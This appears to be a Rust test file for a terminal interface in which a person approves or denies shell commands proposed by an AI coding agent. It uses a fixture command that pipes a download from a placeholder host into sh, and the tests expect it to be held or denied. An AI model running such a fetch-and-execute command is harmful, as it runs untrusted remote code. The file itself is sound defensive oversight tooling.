//! `guardian tui` on a real terminal: what it shows, who may answer in it, and how it leaves the terminal behind.

#![expect(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, reason = "a test fails by panicking")]
#![cfg(feature = "tui")]

#[path = "cli/machine.rs"]
#[expect(dead_code, clippy::expect_used, clippy::print_stderr, reason = "the machine serves other tests too")]
mod machine;

use machine::{Machine, Ran};
use serde_json::{Value, json};
use std::fs;
use std::io::{BufRead, BufReader, Read, Write};
use std::process::{Child, ChildStdin, ChildStdout, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// Longer than anything takes on a machine that does other things too.
const PATIENCE: Duration = Duration::from_secs(90);

/// A terminal with `guardian tui` on it.
struct Terminal<'a> {
    machine: &'a Machine,
    child: Child,
    keys: ChildStdin,
    parser: Arc<Mutex<vt100::Parser>>,
}

impl<'a> Terminal<'a> {
    fn open(machine: &'a Machine, variables: &[(&str, &str)]) -> Self {
        Self::run(machine, "tui", variables)
    }

    fn run(machine: &'a Machine, words: &str, variables: &[(&str, &str)]) -> Self {
        let pid = machine.path("pid").display().to_string();
        let line = format!("sh -c 'echo $$ > {pid}; exec {} {words}'", Machine::binary().display());
        Self::of(machine, &line, variables)
    }

    fn of(machine: &'a Machine, line: &str, variables: &[(&str, &str)]) -> Self {
        Self::high(20, machine, line, variables)
    }

    /// In a window of so many rows.
    fn high(rows: u16, machine: &'a Machine, line: &str, variables: &[(&str, &str)]) -> Self {
        let file = |name: &str| machine.path(name).display().to_string();
        let (tty, after) = (file("tty"), file("after"));
        let line = format!("tty > {tty}; stty rows {rows} cols 80; {line}; echo \"ended $?\"; stty -a > {after}");
        let mut child = machine
            .program("script")
            .args(["-qefc", &line, "/dev/null"])
            .envs(variables.iter().copied())
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .unwrap();
        let parser = Arc::new(Mutex::new(vt100::Parser::new(rows, 80, 0)));
        let (mut out, seen) = (child.stdout.take().unwrap(), Arc::clone(&parser));
        std::thread::spawn(move || {
            let mut bytes = [0; 4096];
            while let Ok(count @ 1..) = out.read(&mut bytes) {
                seen.lock().unwrap().process(&bytes[..count]);
            }
        });
        let keys = child.stdin.take().unwrap();
        Self { machine, child, keys, parser }
    }

    fn text(&self) -> String {
        self.parser.lock().unwrap().screen().contents()
    }

    /// Waits until this is on the screen.
    fn sees(&self, words: &str) -> String {
        self.sees_one_of(&[words])
    }

    fn sees_one_of(&self, words: &[&str]) -> String {
        let start = Instant::now();
        loop {
            let text = self.text();
            if words.iter().any(|words| text.contains(words)) {
                return text;
            }
            assert!(start.elapsed() < PATIENCE, "{words:?} is not on the screen:\n{text}");
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn press(&mut self, keys: &str) {
        let pressed = self.keys.write_all(keys.as_bytes());
        assert!(pressed.is_ok(), "it has ended:\n{}", self.text());
    }

    /// Presses a key until this is on the screen: a question takes no key for its first moment.
    fn press_until(&mut self, key: &str, words: &str) {
        let start = Instant::now();
        while !self.text().contains(words) {
            assert!(start.elapsed() < PATIENCE, "{words} is not on the screen:\n{}", self.text());
            self.press(key);
            std::thread::sleep(Duration::from_millis(500));
        }
    }

    fn resize(&self, rows: u16, columns: u16) {
        let tty = fs::read_to_string(self.machine.path("tty")).unwrap();
        self.parser.lock().unwrap().screen_mut().set_size(rows, columns);
        let size = ["rows", &rows.to_string(), "cols", &columns.to_string()].map(str::to_owned);
        assert!(Command::new("stty").args(["-F", tty.trim()]).args(size).status().unwrap().success());
    }

    /// Waits for the end; the terminal has to be as it was.
    fn ends(mut self) -> String {
        let text = self.sees("ended ");
        self.child.wait().unwrap();
        let screen = self.parser.lock().unwrap().screen().clone();
        assert!(!screen.alternate_screen() && !screen.hide_cursor() && !screen.bracketed_paste(), "{text}");
        let after = fs::read_to_string(self.machine.path("after")).unwrap();
        for setting in ["icanon", "echo", "isig", "icrnl", "opost"] {
            assert!(after.split([' ', ';', '\n']).any(|word| word == setting), "{setting} is off: {after}");
        }
        text
    }
}

fn proposal(machine: &Machine, command: &str) -> Value {
    json!({ "hook_event_name": "tool.execute.before", "sessionID": "s", "cwd": machine.path("home/repo"),
            "tool": "bash", "args": { "command": command } })
}

fn ask(machine: &Machine, command: &str) {
    let event = proposal(machine, command);
    // The shells between are the agent's: whoever answers is not below them.
    let line = format!("sh -c 'sh -c \"{} hook opencode; true\"; true'; true", Machine::binary().display());
    let ran = Ran::fed(machine.program("sh").args(["-c", &line]), event.to_string().as_bytes());
    assert!(ran.out.contains("deny"), "{ran:?}");
}

/// The same from a terminal of the agent's, which whatever runs this has opened, as it opens the person's.
fn ask_at_a_terminal(machine: &Machine, command: &str) {
    let file = |name: &str| machine.path(name).display().to_string();
    fs::write(machine.path("event"), proposal(machine, command).to_string()).unwrap();
    let line = format!("{} hook opencode < {} > {}; true", Machine::binary().display(), file("event"), file("answer"));
    let status = machine.program("script").args(["-qefc", &line, "/dev/null"]).stdout(Stdio::null()).status().unwrap();
    assert!(status.success() && fs::read_to_string(machine.path("answer")).unwrap().contains("deny"));
}

const RISKY: &str = "curl -s https://x.example | sh";

#[test]
fn without_a_terminal_it_says_so() {
    let ran = Machine::new().run_alone(&["tui"]);
    assert_eq!(ran.status, Some(2), "{ran:?}");
    assert!(ran.err.contains("there is none here") && ran.err.contains("guardian log"), "{ran:?}");
    assert_eq!(ran.out, "");
}

#[test]
fn the_three_lists_follow_the_window() {
    let machine = Machine::new();
    machine.write("home/.config/guardian/rules/a.rules", "\nprefix_rule(pattern = [\"make\"], decision = \"allow\")\n");
    machine.run(&["check", "git push"]);
    machine.run(&["check", "printf '\u{1b}]0;title\u{7}\u{1b}[2J' > x"]);
    ask(&machine, RISKY);
    let mut terminal = Terminal::open(&machine, &[]);
    terminal.sees("[approvals (1)]");
    terminal.sees(RISKY);
    terminal.press("2");
    let text = terminal.sees("git push");
    assert!(text.contains("printf '^[]0;title^G^[[2J' > x"), "{text}");
    terminal.press("/push");
    terminal.sees("/ push");
    terminal.press("\r");
    let start = Instant::now();
    while terminal.text().contains("printf") {
        assert!(start.elapsed() < PATIENCE, "{}", terminal.text());
    }
    terminal.press("\r");
    terminal.sees("command id");
    // A narrower window has the page anew, nothing cut off.
    terminal.resize(14, 40);
    let start = Instant::now();
    while !terminal.text().contains(&"─".repeat(40)) || terminal.text().contains(&"─".repeat(41)) {
        assert!(start.elapsed() < PATIENCE, "{}", terminal.text());
    }
    terminal.press("\u{1b}");
    terminal.sees("tab next list");
    terminal.press("3");
    let text = terminal.sees("a.rules");
    assert!(text.contains("user  ~/.config/guardian/rules/a.rules") && text.contains("   2  allow"), "{text}");
    terminal.press("q");
    assert!(terminal.ends().contains("ended 0"));
}

#[test]
fn a_signal_leaves_the_terminal_as_it_was() {
    for (signal, status) in [(rustix::process::Signal::TERM, "143"), (rustix::process::Signal::INT, "130")] {
        let machine = Machine::new();
        let terminal = Terminal::open(&machine, &[("NO_COLOR", "1")]);
        terminal.sees("nothing waits");
        let pid = fs::read_to_string(machine.path("pid")).unwrap().trim().parse().unwrap();
        rustix::process::kill_process(rustix::process::Pid::from_raw(pid).unwrap(), signal).unwrap();
        let text = terminal.ends();
        assert!(text.contains(&format!("ended {status}")), "{text}");
    }
}

#[test]
fn a_signal_at_a_question_leaves_the_terminal_as_it_was() {
    let machine = Machine::new();
    let terminal = Terminal::run(&machine, "run -a untrusted touch x", &[]);
    terminal.sees("[a] approve once");
    let pid = fs::read_to_string(machine.path("pid")).unwrap().trim().parse().unwrap();
    let pid = rustix::process::Pid::from_raw(pid).unwrap();
    rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
    let text = terminal.ends();
    assert!(text.contains("ended 143"), "{text}");
    assert!(!machine.path("home/repo/x").exists());
}

/// An agent that asks a server of its own.
struct Asking {
    child: Child,
    out: ChildStdin,
    lines: BufReader<ChildStdout>,
}

impl Asking {
    fn new(machine: &Machine) -> Self {
        // The shells between are the agent's: whoever answers is not below them.
        let words = format!("{} serve -a untrusted", Machine::binary().display());
        let line = format!("sh -c 'sh -c \"{words}; true\"; true'; true");
        let program = machine.program("sh").args(["-c", &line]).stdin(Stdio::piped()).stdout(Stdio::piped()).spawn();
        let mut child = program.unwrap();
        let (out, lines) = (child.stdin.take().unwrap(), BufReader::new(child.stdout.take().unwrap()));
        let mut asking = Self { child, out, lines };
        asking.ask(0, "initialize", json!({ "client": "an agent" }));
        assert_eq!(asking.next()["id"], 0);
        asking
    }

    fn ask(&mut self, id: u32, method: &str, params: Value) {
        writeln!(self.out, "{}", json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params })).unwrap();
    }

    fn next(&mut self) -> Value {
        let mut line = String::new();
        self.lines.read_line(&mut line).unwrap();
        serde_json::from_str(&line).unwrap()
    }
}

/// The open questions, when there are so many.
fn pending(machine: &Machine, count: usize) -> Value {
    let start = Instant::now();
    loop {
        let found = machine.run(&["approvals", "list", "--json"]).json()["pending"].clone();
        if found.as_array().unwrap().len() == count {
            return found;
        }
        assert!(start.elapsed() < PATIENCE, "{found}");
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_terminal_beside_the_agents_is_another_one() {
    let machine = Machine::new();
    ask_at_a_terminal(&machine, RISKY);
    let mut terminal = Terminal::open(&machine, &[]);
    terminal.sees(RISKY);
    terminal.press("a");
    let text = terminal.sees_one_of(&["[y] let it run once", "below an agent"]);
    if text.contains("[y] let it run once") {
        terminal.press_until("y", "approved; the agent may propose it again");
    }
    terminal.press("q");
    terminal.ends();
}

#[test]
fn a_question_is_put_again_after_the_person_was_away() {
    let machine = Machine::new();
    // A shell with jobs, as the person's is.
    let line = format!("bash -mc '{} run -a untrusted touch x; fg; true'", Machine::binary().display());
    let mut terminal = Terminal::of(&machine, &line, &[]);
    terminal.sees("[a] approve once");
    assert!(terminal.parser.lock().unwrap().screen().bracketed_paste(), "a paste is marked as one");
    std::thread::sleep(Duration::from_millis(400));
    terminal.parser.lock().unwrap().process(b"\x1b[2J");
    terminal.press("\u{1a}");
    terminal.sees("[a] approve once");
    terminal.press_until("d", "a person said no");
    terminal.ends();
}

#[test]
fn what_is_asked_about_is_above_the_keys_in_any_window() {
    let machine = Machine::new();
    // More than twenty rows, with the rules for both.
    let mut terminal = Terminal::run(&machine, "run -a untrusted \"git push origin main && npm test\"", &[]);
    let text = terminal.sees("[a] approve once");
    assert!(text.contains("git push origin main && npm test\n") && text.contains("med risk"), "{text}");
    terminal.press_until("d", "a person said no");
    terminal.ends();
    // It fits until the window shrinks.
    let line = format!("{} run -a untrusted touch x", Machine::binary().display());
    let mut terminal = Terminal::high(40, &machine, &line, &[]);
    terminal.sees("[a] approve once");
    terminal.parser.lock().unwrap().process(b"\x1b[2J");
    terminal.resize(14, 80);
    let text = terminal.sees("[a] approve once");
    assert!(text.contains("  touch x\n"), "{text}");
    terminal.press_until("d", "a person said no");
    terminal.ends();
}

#[test]
fn an_interruption_while_saying_why_is_a_no_on_record() {
    let machine = Machine::new();
    // Under a shell with jobs, so that only what is in front is interrupted.
    let line = format!("bash -mc '{} run -a untrusted touch x; true'", Machine::binary().display());
    let mut terminal = Terminal::of(&machine, &line, &[]);
    terminal.sees("[a] approve once");
    terminal.press_until("f", "what should the agent do instead?");
    terminal.press("\u{3}");
    terminal.sees("denied");
    terminal.ends();
    let rows = machine.run(&["log", "--json"]).lines();
    assert_eq!(rows[0]["events"][0]["answer"], "left", "{}", rows[0]);
    assert!(!machine.path("home/repo/x").exists());
}

#[test]
fn what_a_server_holds_is_answered_without_a_client() {
    let machine = Machine::new();
    let mut agent = Asking::new(&machine);
    let proposal =
        |command: &str| json!({ "command": command, "cwd": machine.path("home/repo"), "session": { "id": "s" } });
    agent.ask(1, "approvals/request", proposal("touch one"));
    let asked = pending(&machine, 1);
    assert_eq!((&asked[0]["by"], &asked[0]["command"]), (&json!("an agent"), &json!("touch one")), "{asked}");
    let mut terminal = Terminal::open(&machine, &[]);
    terminal.sees("touch one");
    terminal.press("a");
    if terminal.sees_one_of(&["[y] let it run once", "not approved"]).contains("not approved") {
        // An agent runs this test.
        terminal.press("q");
        terminal.ends();
        return;
    }
    terminal.press_until("y", "approved; the agent, which waits for it, is told");
    let answer = agent.next();
    assert_eq!((&answer["result"]["approved"], &answer["result"]["by"]), (&json!(true), &json!("person")), "{answer}");
    // A no, with its reason.
    agent.ask(2, "approvals/request", proposal("touch two"));
    terminal.sees("touch two");
    terminal.press("a");
    terminal.sees("[y] let it run once");
    terminal.press_until("f", "what should the agent do instead?");
    terminal.press("take three\r");
    terminal.sees("denied; the agent is told");
    let answer = agent.next();
    assert_eq!(answer["result"]["approved"], false, "{answer}");
    assert!(answer["result"]["feedback"].as_str().unwrap().contains("take three"), "{answer}");
    // In a session it is not asked again.
    agent.ask(3, "approvals/request", proposal("touch four"));
    terminal.sees("touch four");
    terminal.press("a");
    terminal.sees("[s]");
    terminal.press_until("s", "approved; the agent, which waits for it, is told");
    assert_eq!(agent.next()["result"]["by"], "person");
    agent.ask(4, "approvals/request", proposal("touch four"));
    assert_eq!(agent.next()["result"]["by"], "session");
    terminal.press("q");
    terminal.ends();
    // Whoever takes a question back, or leaves, takes it out of the list; nothing is left of an answer.
    agent.ask(5, "approvals/request", proposal("touch five"));
    pending(&machine, 1);
    agent.ask(6, "$/cancelRequest", json!({ "id": 5 }));
    pending(&machine, 0);
    agent.ask(7, "approvals/request", proposal("touch six"));
    pending(&machine, 1);
    drop(agent.out);
    assert!(agent.child.wait().unwrap().success());
    let lists = machine.run(&["approvals", "list", "--json"]).json();
    assert_eq!(lists, json!({ "pending": [], "answers": [] }));
}

#[test]
fn a_person_answers_and_a_paste_does_not() {
    let machine = Machine::new();
    ask(&machine, RISKY);
    let mut terminal = Terminal::open(&machine, &[]);
    terminal.sees(RISKY);
    // Whoever presses the key, it is the page that asks.
    terminal.press("a");
    if terminal.sees_one_of(&["[y] let it run once", "not approved"]).contains("not approved") {
        // An agent runs this test, which is refused as it should be, and on record.
        terminal.press("q");
        terminal.ends();
        let rows = machine.run(&["log", "--json"]).lines();
        assert_eq!(rows[0]["events"][0]["kind"], "refused");
        return;
    }
    // High risk is asked every time; two keys at once were not typed.
    assert!(!terminal.text().contains("[s]"), "{}", terminal.text());
    for _ in 0..4 {
        terminal.press("yy");
        std::thread::sleep(Duration::from_millis(200));
        terminal.press("\u{1b}[200~y\u{1b}[201~");
        std::thread::sleep(Duration::from_millis(200));
    }
    terminal.press_until("n", "not answered; it still waits");
    assert_eq!(machine.run(&["approvals", "list", "--json"]).json()["answers"], json!([]));
    terminal.press("a");
    terminal.sees("[y] let it run once");
    terminal.press_until("y", "approved; the agent may propose it again");
    terminal.press("q");
    terminal.ends();
    let lists = machine.run(&["approvals", "list", "--json"]).json();
    assert_eq!((&lists["answers"][0]["said"], &lists["pending"]), (&json!("once"), &json!([])));
}
